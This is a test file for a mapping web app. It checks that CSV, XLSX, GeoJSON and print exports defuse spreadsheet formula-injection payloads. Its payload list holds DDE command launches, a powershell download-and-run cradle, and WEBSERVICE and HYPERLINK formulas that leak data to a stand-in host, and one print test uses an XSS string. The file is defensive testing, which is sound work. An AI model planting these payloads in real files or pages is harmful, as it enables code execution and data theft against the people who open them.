/**
 * Issue 22, acceptance 7: every export path (CSV, XLSX, GeoJSON, print) given the classic
 * formula-injection payloads yields cells no spreadsheet evaluates; numeric columns stay numeric.
 * CSV files are parsed back as a spreadsheet would read them; XLSX files are unzipped and their
 * sheet XML read.
 */
import { describe, expect, it } from 'vitest';
import { strFromU8, strToU8, unzipSync } from 'fflate';
import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { csvField, defuseCsv, defuseFormula, parseCsv, toCsv } from '../../../web/src/export/csvWriter';
import { planFromGuess } from '../../../web/src/ingest/importPlan';
import { prepareImport } from '../../../web/src/ingest/prepareImport';
import { csvBytesInput, runImport } from '../../../web/src/ingest/runImport';
import { planToCsv, planToGeoJson, planToXlsx } from '../../../web/src/planner/planExport';
import type { Plan } from '../../../web/src/planner/planModel';
import { defaultPlanSettings } from '../../../web/src/planner/planSettings';
import { resultToCsv, resultToXlsx } from '../../../web/src/sql/resultExport';
import { AtlasProvider } from '../../../web/src/state/AtlasProvider';
import { createAtlasStore } from '../../../web/src/state/store';
import { stationsToCsv, stationsToGeoJson } from '../../../web/src/stations/stationExport';
import type { EditableStation } from '../../../web/src/stations/stationEdits';
import { I18nProvider } from '../../../web/src/ui/I18nProvider';
import { PlanPrintView } from '../../../web/src/ui/PlanPrintView';
import { testDeps } from '../state/harness';
import { openWasmSqlRunner } from '../wasmDuckDb';

/** The OWASP CSV-injection list and its relatives: DDE, -/+ starts, leading whitespace, full-width. */
const PAYLOADS = [
  `=cmd|' /C calc'!A0`,
  `=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0`,
  `+cmd|' /C calc'!A0`,
  `-cmd|' /C calc'!A0`,
  `@SUM(1+9)*cmd|' /C calc'!A0`,
  `-1+cmd|' /C calc'!A0`,
  `-2+3+WEBSERVICE("http://x.example/?leak=1")`,
  `=HYPERLINK("http://x.example/?d="&A1,"点此查看")`,
  `=IMPORTXML(CONCAT("http://x.example/?v=",B2),"//a")`,
  `=DDE("cmd";"/C calc";"__DdeLink_60_870516294")`,
  `=1+1`,
  `+1+1`,
  `-1+1`,
  `@SUM(1+1)`,
  `\t=1+1`,
  `\r=1+1`,
  `\n=1+1`,
  ` =1+1`,
  `\u00a0@SUM(1)`,
  `＝1+1`,
  `-`,
  `-12.5abc`,
  `+86 138 0000 0000`,
];

const isNumber = (cell: string) => cell.trim() === cell && cell !== '' && Number.isFinite(Number(cell));

/**
 * A cell a spreadsheet would take as a formula: it starts (possibly after whitespace, which some
 * importers trim) with = + - @ or their full-width forms, or with a tab or CR, and is not a number.
 */
const wouldEvaluate = (cell: string) => !isNumber(cell) && (/^[\s\u0000-\u001f]*[=+\-@＝＋－＠]/.test(cell) || /^[\t\r]/.test(cell));

/** An RFC 4180 reader written apart from csvWriter's, so the writer is not checked against itself. */
function readCsv(text: string): string[][] {
  const body = text.replace(/^\ufeff/, '');
  const rows: string[][] = [];
  const pattern = /("(?:[^"]|"")*"|[^,\r\n]*)(,|\r\n|$)/gy;
  let row: string[] = [];
  for (let m = pattern.exec(body); m && m.index < body.length; m = pattern.exec(body)) {
    row.push(m[1].startsWith('"') ? m[1].slice(1, -1).replace(/""/g, '"') : m[1]);
    if (m[2] !== ',') (rows.push(row), (row = []));
  }
  return rows;
}

function expectDefusedCsv(csv: string): string[][] {
  const cells = readCsv(csv);
  expect(cells.length).toBeGreaterThan(1);
  expect(cells.flat().filter(wouldEvaluate)).toEqual([]);
  expect(parseCsv(csv)).toEqual(cells);
  return cells;
}

describe('the defusing function', () => {
  it('prefixes every payload with an apostrophe and leaves it otherwise as typed', () => {
    for (const payload of PAYLOADS) expect(defuseFormula(payload)).toBe(`'${payload}`);
  });

  it('leaves numbers, text that is exactly a number, ordinary text and defused text alone', () => {
    for (const text of ['-12.5', '12.5', '-0', '1e-7', '-1.5e+21', '.5', '1152921504606846975', '普通站点', 'A-1', '7:00-22:00', "'=1+1", '2026-11-17 08:00:00', '—', ''])
      expect(defuseFormula(text)).toBe(text);
    expect([-12.5, 0, 1e-7, -2n, true, null].map(csvField)).toEqual(['-12.5', '0', '1e-7', '-2', 'true', '']);
    // Not a number a spreadsheet reads: defused like text.
    expect(csvField(-Infinity)).toBe("'-Infinity");
  });

  it('quotes a field holding ; or a tab, so a spreadsheet splitting on them starts no new cell', () => {
    expect(toCsv(['v'], [['a;=1+1'], ['a\t=1+1'], ['a,=1+1']])).toBe('v\r\n"a;=1+1"\r\n"a\t=1+1"\r\n"a,=1+1"\r\n');
  });

  it('defuses CSV text kept from elsewhere (a report in a project file) and keeps CSV it wrote as it is', () => {
    const crafted = 'line,problem,column,name\r\n3,missing,lon,=cmd|\' /C calc\'!A0\r\n4,missing,lon,"-2+3+WEBSERVICE(""http://x"")"\n5,missing,lon,-12.5\r\n';
    const cells = expectDefusedCsv(defuseCsv(crafted));
    expect(cells.map((r) => r[3])).toEqual(['name', `'=cmd|' /C calc'!A0`, `'-2+3+WEBSERVICE("http://x")`, '-12.5']);
    const written = toCsv(['name', 'n'], PAYLOADS.map((p, i) => [p, -i - 0.5]));
    expect(defuseCsv(written)).toBe(written);
  });
});

const station = (id: string, name: string): EditableStation => ({ id, name, kind: PAYLOADS[1], lon: 113.3, lat: -23.1, address: PAYLOADS[6], hours: PAYLOADS[14] });
const STATIONS = PAYLOADS.map((p, i) => station(`S${i}`, p));

const site = (rank: number, name: string) => ({
  id: `venue:${rank}`,
  name,
  kind: 'venue' as const,
  lon: 113.3 + rank / 100,
  lat: 23.1,
  rank,
  district: PAYLOADS[rank % PAYLOADS.length],
  gain: -10 / rank,
  drivers: 20,
  newDrivers: 10 / rank,
  pings: 300,
  newPings: 100,
  bestSlot: { weekday: 3, hourFrom: 7, hourTo: 10, score: 12 },
  profile: [],
  why: [],
});

const PLAN: Plan = {
  version: 1,
  settings: defaultPlanSettings({ k: PAYLOADS.length }),
  measure: 'drivers',
  radiusM: 2885,
  counts: { demandCells: 10, candidates: 4, excluded: 0 },
  demand: { drivers: 40, pings: 900, weight: 900, measureTotal: 40 },
  reached: { drivers: 15, measure: 15 },
  solver: { kind: 'greedy', greedyCovered: 15, greedyMs: 1 },
  sites: PAYLOADS.map((p, i) => site(i + 1, p)),
  schedule: [{ drive: 1, rank: 1, date: '2026-12-02', weekday: 3, hourFrom: 7, hourTo: 10, score: 12 }],
};

/** Cells of every sheet of a workbook: no formula anywhere, and what each cell holds. */
function readXlsx(bytes: Uint8Array): { sheets: string[]; cells: { ref: string; type: string | null; value: string }[] } {
  const files = unzipSync(bytes);
  const sheets = Object.keys(files).filter((f) => f.startsWith('xl/worksheets/')).map((f) => strFromU8(files[f]));
  const cells = sheets.flatMap((xml) =>
    [...xml.matchAll(/<c r="([A-Z]+\d+)"(?: t="(\w+)")?>(.*?)<\/c>/g)].map(([, ref, type, inner]) => ({
      ref,
      type: type ?? null,
      value: (/<v>(.*?)<\/v>/.exec(inner) ?? /<t xml:space="preserve">(.*?)<\/t>/.exec(inner))![1],
    })),
  );
  return { sheets, cells };
}

function expectNoFormulas(bytes: Uint8Array) {
  const { sheets, cells } = readXlsx(bytes);
  for (const xml of sheets) {
    expect(xml).not.toMatch(/<f[ >]/);
    expect(xml).not.toContain('t="str"');
    expect(xml).not.toContain('t="e"');
  }
  // Every cell is an inline string, a plain number or a boolean: nothing a spreadsheet evaluates.
  for (const cell of cells) expect(cell.type === null ? isNumber(cell.value) : ['inlineStr', 'b'].includes(cell.type)).toBe(true);
  return cells;
}

describe('every export path', () => {
  it('station CSV: names, kinds, addresses and hours defused; coordinates numbers', () => {
    const cells = expectDefusedCsv(stationsToCsv(STATIONS));
    expect(cells.slice(1).map((r) => r[1])).toEqual(PAYLOADS.map((p) => `'${p}`));
    expect(cells[1].slice(2)).toEqual([`'${PAYLOADS[1]}`, '113.3', '-23.1', `'${PAYLOADS[6]}`, `'${PAYLOADS[14]}`]);
  });

  it('station GeoJSON: names kept exactly as stored (GIS tools evaluate nothing)', () => {
    const geo = JSON.parse(stationsToGeoJson(STATIONS));
    expect(geo.features.map((f: { properties: { name: string } }) => f.properties.name)).toEqual(PAYLOADS);
    expect(geo.features[0].geometry.coordinates).toEqual([113.3, -23.1]);
  });

  it('plan CSV, XLSX and GeoJSON: site and district names defused in the spreadsheet files, numbers stay numbers', () => {
    const csv = expectDefusedCsv(planToCsv(PLAN, 'en'));
    expect(csv.slice(1).map((r) => r[1])).toEqual(PAYLOADS.map((p) => `'${p}`));
    // Negative gains stay plain negative numbers.
    expect(csv[1][9]).toBe('-10');

    const cells = expectNoFormulas(planToXlsx(PLAN, 'zh-CN'));
    const at = (ref: string) => cells.find((c) => c.ref === ref);
    // Text exactly as stored, as a string cell; the objective gain a number cell.
    expect(at('B2')).toEqual({ ref: 'B2', type: 'inlineStr', value: "=cmd|' /C calc'!A0" });
    expect(at('J2')).toEqual({ ref: 'J2', type: null, value: '-10' });
    expect(at('E2')).toEqual({ ref: 'E2', type: null, value: '113.31' });

    const geo = JSON.parse(planToGeoJson(PLAN));
    expect(geo.features.map((f: { properties: { name: string } }) => f.properties.name)).toEqual(PAYLOADS);
  });

  it('query results as CSV and XLSX: payloads in values and column names defused, numeric columns numeric', async () => {
    const { runner } = await openWasmSqlRunner();
    const values = PAYLOADS.map((p, i) => `(${i}, '${p.replace(/'/g, "''")}', -12.5 - ${i}, -${i}::BIGINT, '-12.5')`).join(', ');
    const table = await runner.query(
      `SELECT i, t AS "=HYPERLINK(""http://x"")", d, b, s, d::DOUBLE AS f, -1.25::DECIMAL(10,2) AS dec FROM (VALUES ${values}) v(i, t, d, b, s) ORDER BY i`,
    );
    const cells = expectDefusedCsv(resultToCsv(table));
    expect(cells[0]).toEqual(['i', `'=HYPERLINK("http://x")`, 'd', 'b', 's', 'f', 'dec']);
    expect(cells.slice(1).map((r) => r[1])).toEqual(PAYLOADS.map((p) => `'${p}`));
    // A DECIMAL, a BIGINT, a DOUBLE and the text "-12.5" all come out as the number they are.
    expect(cells[2]).toEqual(['1', `'${PAYLOADS[1]}`, '-13.5', '-1', '-12.5', '-13.5', '-1.25']);

    const sheet = expectNoFormulas(resultToXlsx(table).bytes);
    const at = (ref: string) => sheet.find((c) => c.ref === ref);
    expect(at('B1')).toEqual({ ref: 'B1', type: 'inlineStr', value: '=HYPERLINK(&quot;http://x&quot;)' });
    expect(at('B3')?.type).toBe('inlineStr');
    expect(['C3', 'D3', 'F3', 'G3'].map((ref) => [at(ref)?.type, at(ref)?.value])).toEqual([[null, '-13.5'], [null, '-1'], [null, '-13.5'], [null, '-1.25']]);
    // Text stays text in a workbook, even when it looks like a number.
    expect(at('E3')).toEqual({ ref: 'E3', type: 'inlineStr', value: '-12.5' });
  });

  it("an import's rejected rows: payloads in the rejected lines defused (as written now, and as a stored report is downloaded)", async () => {
    const { runner } = await openWasmSqlRunner();
    const quote = (v: string) => `"${v.replace(/"/g, '""')}"`;
    // Not the payloads with a line break: the importer refuses quoted line breaks (a limit of its CSV reader).
    const payloads = PAYLOADS.filter((p) => !/[\r\n]/.test(p));
    const lines = ['名称,经度,纬度', '好站,113.3,23.1', ...payloads.map((p) => `${quote(p)},abc,${quote(p)}`)];
    const bytes = strToU8(lines.join('\n') + '\n');
    const prepared = prepareImport('站点.csv', bytes);
    const plan = { ...planFromGuess(prepared), kind: 'stations' as const };
    const report = await runImport(runner, plan, csvBytesInput(bytes, prepared.encoding), { salt: 's' });
    expect(report.rejected).toBe(payloads.length);
    for (const csv of [report.rejectedCsv, defuseCsv(report.rejectedCsv)]) {
      const cells = expectDefusedCsv(csv);
      expect(cells.slice(1).map((r) => r[3])).toEqual(payloads.map((p) => `'${p}`));
      // The line number stays a number.
      expect(cells[1][0]).toBe('3');
    }
  });

  it('print view: every name is text in the page, never markup, never an apostrophe', () => {
    const { deps } = testDeps();
    const store = createAtlasStore(deps);
    store.getState().planner.restore({ ...PLAN, sites: [site(1, '<img src=x onerror=alert(1)>'), ...PLAN.sites.slice(1)] });
    // Rendered on the "server", zustand reads the initial state (empty before the slices are set): give it the current one.
    const rendered = { ...store, getInitialState: store.getState };
    const html = renderToStaticMarkup(createElement(AtlasProvider, { store: rendered, children: createElement(I18nProvider, { children: createElement(PlanPrintView) }) }));
    expect(html).toContain('data-testid="print-sites"');
    expect(html).toContain('<td>&lt;img src=x onerror=alert(1)&gt;</td>');
    expect(html).not.toContain('<img src=x');
    expect(html).toContain(`<td>=HYPERLINK(&quot;http://x.example/?d=&quot;&amp;A1,&quot;点此查看&quot;)</td>`);
    expect(html).not.toMatch(/<td>(&#x27;|')/);
  });
});
